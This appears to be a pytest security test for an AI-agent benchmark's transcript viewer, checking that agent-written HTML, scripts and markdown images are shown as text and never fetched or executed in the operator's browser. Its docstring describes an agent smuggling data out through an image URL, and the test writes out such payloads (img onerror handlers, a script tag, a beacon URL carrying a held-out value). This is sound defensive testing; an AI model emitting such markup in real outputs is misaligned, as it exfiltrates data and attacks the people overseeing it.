"""The transcript viewer shows what the agent wrote (its model's replies, its commands and their
output) in the operator's browser. An agent that knows it will be read there can write HTML,
script or a markdown image whose address carries what it saw to a server it can reach later.
Exported logs mark their content untrusted (`trust_content = False`), and Inspect's viewer shows it
as text: no element of the agent's is built, no script of its runs, nothing is fetched.

Not seen to succeed: with `trust_content = True` the viewer of inspect_ai 0.3.285 also built none
of the agent's images or scripts, in the transcript and the messages tabs. The test guards the
export's flag and a viewer upgrade that would render agent-written markup.

Real parts: a modular agent's attempt on the counter fixture (fake model server on 127.0.0.1),
`rebench view` serving Inspect's viewer, Debian's Chromium driven by Playwright.
"""

from __future__ import annotations

import os
import shutil
import signal
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from rebench import api
from tests.conftest import REPO
from tests.model_fixtures import call, replay_attempts_then_server
from tests.test_inspect_export import _free_port, _read_url

pytestmark = [pytest.mark.adversarial, pytest.mark.slow]


@pytest.fixture
def beacon() -> Iterator[tuple[str, list[str]]]:
    """A server the agent could read later: it records every path it is asked for."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/gif")
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", asked
    finally:
        server.shutdown()


def test_what_the_agent_wrote_is_shown_as_text_in_the_viewer(tmp_path: Path, beacon: tuple[str, list[str]]) -> None:
    chromium = shutil.which("chromium")
    if chromium is None:
        pytest.skip("needs Debian's chromium (apt-get install chromium)")
    from playwright.sync_api import sync_playwright

    url, asked = beacon
    said = (f"Done. ![progress]({url}/markdown-image?held-out=42) "
            f"<img src=\"{url}/html-image\" onerror=\"window.rebenchPwned = 1\"> "
            "<script>window.rebenchPwned = 2</script>")
    command = f"echo '<img src=\"{url}/output-image\" onerror=\"window.rebenchPwned = 3\">'"
    with replay_attempts_then_server(tmp_path) as (db, server):
        server.add({"text": said, "tool_calls": [call("bash", command=command)]},
                   {"text": said, "tool_calls": [call("submit", answer=said)]})
        agent = api.AgentConfig(name="modular", model="openai/scripted", base_url=server.openai_url)
        api.run_campaign(api.CampaignSpec(environments=["counter"], budget_s="2m", backend="local", agent=agent),
                         db=db)
    (attempt_id,) = [row[0] for row in _rows(db, "select id from attempts where agent = 'modular'")]
    port = _free_port()
    env = {**os.environ, "REBENCH_CACHE": str(tmp_path / "cache"), "XDG_DATA_HOME": str(tmp_path / "data"),
           "REBENCH_ENVIRONMENTS": str(tmp_path / "envs"), "PYTHONPATH": str(REPO)}
    process = subprocess.Popen([sys.executable, "-m", "rebench.cli.app", "view", "--db", str(db), "--port", str(port)],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env,
                               start_new_session=True)
    try:
        viewer = _read_url(process, 180)
        (log,) = [p.name for p in (tmp_path / "cache" / "inspect-view").glob("*/*_modular-*.eval")]
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
            page = browser.new_page()
            page.goto(f"{viewer}#/logs/{log}/samples/sample/{attempt_id}/1/transcript")
            page.get_by_text("output-image").first.wait_for(timeout=60_000)
            page.wait_for_timeout(2_000)  # room for any image the page would fetch
            pwned = page.evaluate("window.rebenchPwned")
            page.goto(f"{viewer}#/logs/{log}/samples/sample/{attempt_id}/1/messages")  # the rendered chat
            page.get_by_text("output-image").first.wait_for(timeout=60_000)
            page.wait_for_timeout(2_000)
            pwned = pwned or page.evaluate("window.rebenchPwned")
            shown = page.inner_text("body")
            browser.close()
        assert pwned is None, f"the agent's script ran in the operator's browser (handler {pwned})"
        assert asked == [], f"the viewer fetched what the agent named: {asked}"
        assert "onerror" in shown, "the agent's HTML is shown as text"
    finally:
        if process.poll() is None:
            os.killpg(process.pid, signal.SIGKILL)
            process.wait()


def _rows(db: Path, query: str) -> list[tuple[object, ...]]:
    import sqlite3
    from contextlib import closing

    with closing(sqlite3.connect(db)) as connection:
        return connection.execute(query).fetchall()
